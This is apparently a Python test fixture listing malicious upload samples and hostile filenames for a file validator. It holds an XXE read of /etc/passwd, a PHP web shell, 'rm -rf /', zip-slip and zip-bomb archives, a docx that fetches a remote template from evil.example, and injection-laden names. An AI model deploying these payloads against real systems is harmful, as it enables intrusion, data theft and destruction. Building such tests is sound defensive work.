"""Files of those who mean harm: their bytes by what they try, and the names that they are sent under."""

import gzip
import zipfile
from io import BytesIO

from tests.support.samples import media_files
from tests.support.samples.media_files import changed_zip, docx, pdf, picture, xlsx

SCRIPT = b"<script>alert(1)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>'
RELATION = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="%s" Target="%s" TargetMode="External"/></Relationships>'
)
OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def archive(**parts: bytes) -> bytes:
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in parts.items():
            new.writestr(name, content)
    return file.getvalue()


def bomb(megabytes: int) -> bytes:
    return changed_zip(docx(), add={"word/media/image1.png": b"\0" * (megabytes * 2**20)})


def crowd(parts: int) -> bytes:
    return changed_zip(docx(), add={f"word/media/{number}.png": b"" for number in range(parts)})


def external(kind: bytes, target: bytes) -> bytes:
    return changed_zip(docx(), add={"word/_rels/settings.xml.rels": RELATION % (OFFICE + kind, target)})


FILES: dict[str, bytes] = {
    "html": HTML,
    "html-after-spaces": b"\n \t" * 300 + HTML,
    "html-with-mark": b"\xef\xbb\xbf" + HTML,
    "html-utf16": HTML.decode().encode("utf-16"),
    "html-utf7": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>",
    "mhtml": b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\nContent-Type: text/html\n\n" + HTML,
    "svg": SVG,
    "svg-after-comment": b"<!-- x -->" * 50 + SVG,
    "svg-xml": b'<?xml version="1.0"?>' + SVG,
    "svg-doctype": b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x">' + SVG,
    "svgz": gzip.compress(SVG),
    "xml-entity": XXE,
    "xslt": b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x/>',
    "script": b"alert(document.cookie)",
    "style": b"*{background:url(//evil.example)}",
    "json": b'{"html": "<script>alert(1)</script>"}',
    "flash": b"FWS\x06" + b"\0" * 200,
    "java-class": b"\xca\xfe\xba\xbe" + b"\0" * 200,
    "wasm": b"\0asm\x01\0\0\0",
    "windows-program": b"MZ\x90\0" + b"\0" * 500,
    "linux-program": b"\x7fELF\x02\x01\x01" + b"\0" * 500,
    "shell-script": b"#!/bin/sh\nrm -rf /\n",
    "php": b"<?php system($_GET['c']); ?>",
    "shortcut": b"[InternetShortcut]\nURL=javascript:alert(1)\n",
    "hta": b"<hta:application>" + SCRIPT,
    "rtf": rb"{\rtf1{\object\objdata 00}}",
    "old-word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "postscript": b"%!PS\n(/etc/passwd) run\n",
    "tar": b"x" * 257 + b"ustar\x0000" + b"\0" * 500,
    "empty": b"",
    "nothing-but-null": b"\0" * 5000,
    "gif-html": b"GIF89a/*" + HTML + b"*/",
    "gif-script": b"GIF89a=1;alert(1)//" + b"\0" * 50,
    "bmp-script": b"BM=1;alert(1)//" + b"\0" * 50,
    "jpeg-header-html": b"\xff\xd8\xff\xe0" + HTML,
    "png-header-html": b"\x89PNG\r\n\x1a\n" + HTML,
    "webp-header-html": b"RIFF\x10\0\0\0WEBPVP8 " + HTML,
    "jpeg-tail-html": picture() + HTML,
    "jpeg-tail-zip": picture(300, 200) + archive(**{"x.html": HTML}),
    "jpeg-comment": picture(310, 200, comment=SCRIPT),
    "png-tail-php": picture(320, 200, format="PNG") + b"<?php system('id'); ?>",
    "webp-tail-html": picture(330, 200, format="WEBP") + HTML,
    "gif-tail-svg": picture(340, 200, format="GIF") + SVG,
    "pixel-flood": media_files.huge_png(),
    "animation": media_files.animated_picture(),
    "pdf-javascript": pdf(media_files.add_javascript),
    "pdf-launch": pdf(media_files.add_launch_action),
    "pdf-attachment": pdf(media_files.add_attachment),
    "pdf-html-before": HTML + pdf(),
    "pdf-html-after": pdf() + HTML,
    "pdf-header-alone": b"%PDF-1.7\n" + HTML,
    "pdf-password": pdf(password="secret"),
    "zip-html": archive(**{"index.html": HTML}),
    "zip-slip": archive(**{"../../settings.py": b"x", "[Content_Types].xml": b"<x/>"}),
    "zip-bomb": bomb(200),
    "zip-crowd": crowd(12_000),
    "jar": archive(**{"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"}),
    "docx-macros": changed_zip(docx(), add={"word/vbaProject.bin": b"x"}),
    "docx-macro-type": changed_zip(docx(), add={"word/vbaData.xml": b"<x/>", "word/vbaProject.bin": b""}),
    "docx-template": external(b"attachedTemplate", b"http://evil.example/x.dotm"),
    "docx-remote-object": external(b"oleObject", b"mhtml:http://evil.example!x"),
    "docx-entity": changed_zip(docx(), add={"word/comments.xml": XXE}),
    "docx-html-before": HTML + docx(),
    "docx-html-after": docx() + HTML,
    "xlsx-macrosheet": changed_zip(xlsx(), add={"xl/macrosheets/sheet1.xml": b"<x/>"}),
    "xlsx-macros": changed_zip(xlsx(), add={"xl/vbaProject.bin": b"x"}),
}  # fmt: skip
NAMES = (
    "../../../etc/passwd.jpg", "..\\..\\windows\\win.ini.jpg", "/etc/cron.d/x.jpg", "C:\\x.jpg", "photo.jpg\0.html",
    "photo.php.jpg", "photo.jpg.html", "photo.svg", "photo.html", ".htaccess", "con.jpg", "photo\u202egpj.exe", "x" * 255,
    "\u7b80" * 255,
    "a\r\nSet-Cookie: x=1.jpg", 'a"; filename="x.html', "<img src=x onerror=alert(1)>.jpg", "photo.jpg;.html", "photo.jpg%00.html",
    "%2e%2e%2fx.jpg", "photo.jpg/", " .jpg", "-rf.jpg", "photo.jpg:stream", "\u200bphoto.jpg", "'; DROP TABLE x; --.jpg",
)  # fmt: skip
